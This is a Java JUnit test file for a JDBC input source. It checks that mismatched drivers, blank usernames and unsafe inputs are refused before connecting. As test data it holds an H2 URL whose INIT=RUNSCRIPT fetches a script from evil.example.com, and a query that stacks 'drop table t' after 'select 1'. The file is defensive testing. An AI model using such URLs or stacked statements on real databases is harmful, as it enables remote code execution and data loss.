package dev.modelrun.adapters.jdbc.source;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.modelrun.core.model.InvalidInputException;
import dev.modelrun.core.model.JdbcInput;
import dev.modelrun.core.model.Secret;
import dev.modelrun.engine.testkit.EchoModel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What is refused before any connection is made (the URLs name a port where nothing listens). */
class JdbcInputSourceTest {
  private final JdbcInputSource source = new JdbcInputSource(JdbcSourcePolicy.defaults());

  private static JdbcInput input(String url, String driver, String query) {
    return new JdbcInput(url, "someone", Secret.of("pw"), driver, query);
  }

  @Test
  void reads_jdbc_inputs() {
    assertThat(source.inputType()).isEqualTo(JdbcInput.class);
  }

  @ParameterizedTest
  @CsvSource({
      "jdbc:postgresql://127.0.0.1:1/test, org.mariadb.jdbc.Driver, org.postgresql.Driver",
      "jdbc:postgresql://127.0.0.1:1/test, org.h2.Driver, org.postgresql.Driver",
      "jdbc:mariadb://127.0.0.1:1/test, org.postgresql.Driver, org.mariadb.jdbc.Driver",
      "jdbc:mariadb://127.0.0.1:1/test, com.mysql.cj.jdbc.Driver, org.mariadb.jdbc.Driver",
      "jdbc:mysql://127.0.0.1:1/test, org.postgresql.Driver, com.mysql.cj.jdbc.Driver"})
  void refuses_a_driver_that_does_not_match_the_url(String url, String driver, String expected) {
    assertThatThrownBy(() -> source.resolve(input(url, driver, "select 1"), EchoModel.DESCRIPTOR))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.driver '" + driver + "' does not match input.url, which needs the driver "
            + expected);
  }

  @Test
  void refuses_an_h2_url_with_init_before_connecting() {
    JdbcInput h2 = input("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example.com/x.sql'", "org.h2.Driver",
        "select 1");

    assertThatThrownBy(() -> source.resolve(h2, EchoModel.DESCRIPTOR))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.url must start with one of the allowed prefixes");
  }

  @Test
  void refuses_a_second_statement_before_connecting() {
    JdbcInput twice = input("jdbc:postgresql://127.0.0.1:1/test", "org.postgresql.Driver",
        "select 1; drop table t");

    assertThatThrownBy(() -> source.resolve(twice, EchoModel.DESCRIPTOR))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageContaining("single statement");
  }

  @Test
  void takes_a_blank_driver_as_the_known_driver_of_the_url() {
    JdbcInput blankDriver = input("jdbc:postgresql://127.0.0.1:1/test", " ", "select 1");

    assertThatThrownBy(() -> source.resolve(blankDriver, EchoModel.DESCRIPTOR))
        .isInstanceOf(InvalidInputException.class)
        .hasMessageStartingWith("input.url: could not connect to the database");
  }

  @Test
  void refuses_a_blank_username() {
    JdbcInput anonymous = new JdbcInput("jdbc:postgresql://127.0.0.1:1/test", " ", Secret.of(""), "", "select 1");

    assertThatThrownBy(() -> source.resolve(anonymous, EchoModel.DESCRIPTOR))
        .isInstanceOf(InvalidInputException.class)
        .hasMessage("input.username must not be blank");
  }
}
